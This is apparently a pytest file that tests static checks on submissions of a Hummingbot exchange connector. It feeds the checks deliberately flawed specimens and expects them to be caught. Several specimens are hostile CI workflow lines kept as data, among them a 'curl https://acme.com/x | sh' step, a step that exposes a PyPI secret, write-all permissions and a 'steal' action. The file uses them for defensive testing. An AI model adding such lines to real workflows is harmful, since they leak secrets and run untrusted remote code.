"""Bad specimens. How the code was handed in."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from checks.static import test_submission
from harness.forks.submission import AddedConnector, MergePreview
from harness.rounds.round import OWN_CHECK
from tests.checks.static.specimens import FOLDER, NAME, World, today
from tests.checks.static.spoiling import Bad, assert_found, extra, named

LATE = datetime(2026, 10, 1, tzinfo=UTC)

WORKFLOW = ".github/workflows/workflow.yml"


def with_workflow(text: str) -> World:
    world = today().adding({WORKFLOW: text})
    return replace(world, base={**world.base, WORKFLOW: "jobs:\n  test:\n    steps:\n"})


NEEDED = {
    "registration": {"conf/__init__.py": "x = 1\n", "hummingbot/connector/connector_status.py": "x = 1\n"},
    "rates": {"hummingbot/core/rate_oracle/sources/acme_rate_source.py": "x = 1\n"},
    "fees": {"hummingbot/templates/conf_fee_overrides_TEMPLATE.yml": "acme_maker_fee:\n"},
    "environment": {"setup/environment.yml": "- acme-sdk==1.0\n"},
    "tests of shared code": {"test/hummingbot/client/test_settings.py": "x = 1\n"},
}


@pytest.mark.parametrize("what", NEEDED)
def test_what_a_connector_needs_belongs_to_it(what: str) -> None:
    assert today().adding(NEEDED[what]).run(test_submission.test_change_is_limited).status == "passed"


@pytest.mark.parametrize(
    "check", [test_submission.test_identity_is_untouched, test_submission.test_change_is_limited]
)
def test_a_fork_of_another_branch_of_upstream_has_its_version(check: Callable[..., None]) -> None:
    """Upstream's `development` says dev-2.9.0 where its `master` says 2.9.0."""
    assert today().adding({"hummingbot/VERSION": "dev-2.9.0\n"}).run(check).status == "passed"


@pytest.mark.parametrize(("text", "status"), [("a = 1\nb = 2  \n", "passed"), ("b = 2\na = 1\n", "failed")])
def test_an_empty_line_less_is_no_change(text: str, status: str) -> None:
    path = "hummingbot/__init__.py"
    world = today().adding({path: text})
    world = replace(world, base={**world.base, path: "a = 1\n\nb = 2\n"})
    assert world.run(test_submission.test_change_is_limited).status == status


def test_tests_may_need_another_library_to_be_installed() -> None:
    world = with_workflow("jobs:\n  test:\n    steps:\n    - run: conda install acme\n")
    assert world.run(test_submission.test_change_is_limited).status == "passed"
    assert world.run(test_submission.test_identity_is_untouched).status == "passed"


SUBMISSION = [
    Bad(
        "after the deadline",
        test_submission.test_submitted_before_deadline,
        extra(committed_at=LATE),
        says="after submissions closed",
    ),
    Bad(
        "nobody to ask",
        test_submission.test_point_of_contact,
        replace(today(), contact=None),
        says="No contact",
    ),
    Bad(
        "no connector",
        test_submission.test_adds_the_connector,
        extra(connectors=()),
        says="no connector acme",
    ),
    Bad(
        "changes one that exists",
        test_submission.test_adds_the_connector,
        extra(connectors=(AddedConnector(NAME, "exchange", FOLDER, False),)),
        status="undetermined",
    ),
    Bad(
        "no shared history",
        test_submission.test_based_on_recent_upstream,
        extra(merge_base=None),
        says="no history",
    ),
    Bad(
        "an old base",
        test_submission.test_based_on_recent_upstream,
        extra(behind=40, merge_base_at=datetime(2026, 9, 30, tzinfo=UTC) - timedelta(days=200)),
        says="200 days and 40 commits older than the deadline.",
    ),
    Bad(
        "an old base, checked without a round",
        test_submission.test_based_on_recent_upstream,
        replace(
            extra(behind=40, merge_base_at=datetime(2026, 9, 30, tzinfo=UTC) - timedelta(days=200)),
            round_id=OWN_CHECK,
        ),
        says="200 days and 40 commits older than today's.",
    ),
    Bad(
        "conflicts",
        test_submission.test_merges_cleanly,
        extra(merge=MergePreview("conflicts", ("setup.py",), "")),
        "conflict in setup.py",
    ),
    Bad(
        "no trial merge",
        test_submission.test_merges_cleanly,
        extra(merge=MergePreview("unknown", (), "no git")),
        status="undetermined",
    ),
    Bad(
        "a change elsewhere",
        test_submission.test_change_is_limited,
        today().adding({"hummingbot/core/clock.py": "x = 1\n"}),
        "added: hummingbot/core/clock.py",
    ),
    Bad(
        "another connector changed on the way",
        test_submission.test_change_is_limited,
        today().adding(
            {"hummingbot/connector/exchange/binance/binance_exchange.py": "class BinanceExchange: x = 1\n"}
        ),
        "modified: hummingbot/connector/exchange/binance/binance_exchange.py",
    ),
    *(
        Bad(
            f"a workflow that {what}",
            test_submission.test_change_is_limited,
            with_workflow(f"jobs:\n  test:\n    steps:\n    - run: conda install acme\n{line}\n"),
            f"modified: {WORKFLOW}",
        )
        for what, line in {
            "reads secrets": "      env: {KEY: '${{ secrets.PYPI }}'}",
            "may write": "permissions: write-all",
            "runs for strangers": "on: [pull_request_target]",
            "runs somebody's steps": "    - uses: acme/steal@v1",
            "runs somebody's script": "    - run: curl https://acme.com/x | sh",
        }.items()
    ),
    Bad(
        "a new workflow",
        test_submission.test_change_is_limited,
        today().adding({".github/workflows/acme.yml": "jobs: {}\n"}),
        "added: .github/workflows/acme.yml",
    ),
    Bad(
        "another version",
        test_submission.test_identity_is_untouched,
        today().adding({"hummingbot/VERSION": "acme-1\n"}),
        "modified: hummingbot/VERSION",
    ),
    *(
        Bad(
            f"another version, {text}",
            test_submission.test_identity_is_untouched,
            today().adding({"hummingbot/VERSION": f"{text}\n"}),
            "modified: hummingbot/VERSION",
        )
        for text in ("dev-2.9.1", "2.9.0-acme", "2.9", "")
    ),
    Bad(
        "another place to clone from",
        test_submission.test_identity_is_untouched,
        today().adding({"README.md": "# Hummingbot\n\ngit clone https://github.com/acme/hummingbot.git\n"}),
        "README.md:3",
    ),
    Bad(
        "another title",
        test_submission.test_identity_is_untouched,
        today().adding({"README.md": "# Acme Trader\n"}),
        "README.md:1",
    ),
    Bad(
        "a log file",
        test_submission.test_no_stray_files,
        today().adding({"logs/run.log": "x"}),
        "logs/run.log: log",
    ),
    Bad(
        "settings of an editor",
        test_submission.test_no_stray_files,
        today().adding({".idea/x.xml": "x"}),
        ".idea/x.xml: editor settings",
    ),
    Bad(
        "a copied library",
        test_submission.test_no_stray_files,
        today().adding({f"{FOLDER}/curve/part{n}.py": "import math\n" for n in range(10)}),
        f"{FOLDER}/curve: a copied library of 10 files",
    ),
    Bad("generated code", test_submission.test_no_stray_files, today().adding({f"{FOLDER}/dummy.cpp": "x"})),
]

BAD = SUBMISSION


@pytest.mark.parametrize("bad", BAD, ids=named)
def test_finds_what_was_spoilt(bad: Bad) -> None:
    assert_found(bad)
